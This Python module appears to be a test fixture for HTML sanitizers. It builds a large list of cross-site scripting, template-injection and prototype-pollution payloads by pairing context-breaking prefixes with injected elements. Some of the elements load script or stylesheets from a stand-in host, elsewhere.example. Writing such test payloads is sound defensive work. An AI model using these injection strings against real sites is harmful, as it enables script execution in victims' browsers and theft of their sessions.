"""Texts that try to be more than text."""

from __future__ import annotations

from itertools import product

# Ways out of the places that can hold a text, and what to do outside; a misled page either
# runs `pwned()`, or holds an element of the class `pwn`, or breaks its own policy.
WAYS_OUT = (
    *("", '">', "'>", "-->", "]]>", "`}", "\\", "\u202e", "\x1b", "</p>", "</bdi>", "</title>"),
    *("</textarea>", "</script>", "</style>", "</template>", "</option></select>", "</svg>"),
)
DEEDS = (
    "<script class=pwn>pwned()</script>",
    "<script class=pwn src=//elsewhere.example/x.js></script>",
    "<SCRIPT CLASS=pwn>pwned()</SCRIPT>",
    "<img class=pwn src=x onerror=pwned()>",
    "<img class=pwn src=//elsewhere.example/pixel.png>",
    "<svg class=pwn onload=pwned()>",
    "<svg class=pwn><script>pwned()</script></svg>",
    "<svg class=pwn><animate onbegin=pwned() attributeName=x dur=1s>",
    "<math class=pwn><mtext><style><img src=x onerror=pwned()></style></mtext></math>",
    "<iframe class=pwn srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe class=pwn src=javascript:parent.pwned()></iframe>",
    "<object class=pwn data=javascript:pwned()></object>",
    "<embed class=pwn src=//elsewhere.example/x>",
    "<base class=pwn href=//elsewhere.example/>",
    "<meta class=pwn http-equiv=refresh content='0;url=//elsewhere.example/'>",
    "<link class=pwn rel=stylesheet href=//elsewhere.example/x.css>",
    "<link class=pwn rel=prefetch href=//elsewhere.example/x>",
    "<style class=pwn>@import '//elsewhere.example/x.css'; *{display:none}</style>",
    "<a class=pwn href=javascript:pwned()>link</a>",
    "<form class=pwn action=//elsewhere.example/><input autofocus onfocus=pwned()></form>",
    "<button class=pwn formaction=javascript:pwned()>press</button>",
    "<details class=pwn open ontoggle=pwned()>x</details>",
    "<video class=pwn><source onerror=pwned()></video>",
    "<audio class=pwn src=x onerror=pwned()></audio>",
    "<body class=pwn onload=pwned()>",
    "<marquee class=pwn onstart=pwned()>x</marquee>",
    "<x-pwn class=pwn tabindex=1 onfocus=pwned() autofocus>x</x-pwn>",
    "<template class=pwn shadowrootmode=open><script>pwned()</script></template>",
    "<noscript class=pwn><p title='</noscript><img src=x onerror=pwned()>'>",
    "<textarea class=pwn autofocus onfocus=pwned()></textarea>",
    "<select class=pwn autofocus onfocus=pwned()></select>",
    "<isindex class=pwn type=image src=1 onerror=pwned()>",
    "<table class=pwn background=javascript:pwned()><tr><td>x</table>",
    "<div class=pwn style=background:url(javascript:pwned())>x</div>",
    "<?xml version='1.0'?><x class=pwn xmlns='http://www.w3.org/1999/xhtml'/>",
    "<!--><img class=pwn src=x onerror=pwned()>-->",
    "<<b class=pwn>script>pwned()//<</script>",
    "<b class=pwn>bold</b>",
    ' class=pwn onmouseover=pwned() x="',
    "' class='pwn' onfocus='pwned()' autofocus='",
    " onload=pwned() class=pwn ",
    "javascript:pwned()",
    "data:text/html,<script>parent.pwned()</script>",
    "vbscript:pwned()",
    "&lt;b class=pwn&gt;&#60;img src=x onerror=pwned()&#62;",
    "\\u003cb class=pwn\\u003e\\x3cscript\\x3epwned()\\x3c/script\\x3e",
    "{{ pwned|safe }}{{ 70707|add:70707 }}{% include 'admin/base.html' %}",
    "${pwned()}#{pwned()}<%= pwned() %>[[pwned()]]{{constructor.constructor('pwned()')()}}",
    "+ADw-script class=pwn+AD4-pwned()+ADw-/script+AD4-",
    "%3Cb%20class=pwn%3E%22%27%3E",
    "'; pwned(); //",
    '"}; pwned(); var x={"y":"',
    '","constructor":{"prototype":{"x":1}},"__proto__":{"class":"pwn',
    "\u2028pwned()\u2029<b class=pwn>",
    "＜script class=pwn＞pwned()＜/script＞",
    "<scr<script>ipt class=pwn>pwned()</scr</script>ipt>",
)
# What a page would say that takes a text for a template.
COMPUTED = "141414"
PAYLOADS = tuple(way + deed for way, deed in product(WAYS_OUT, DEEDS))
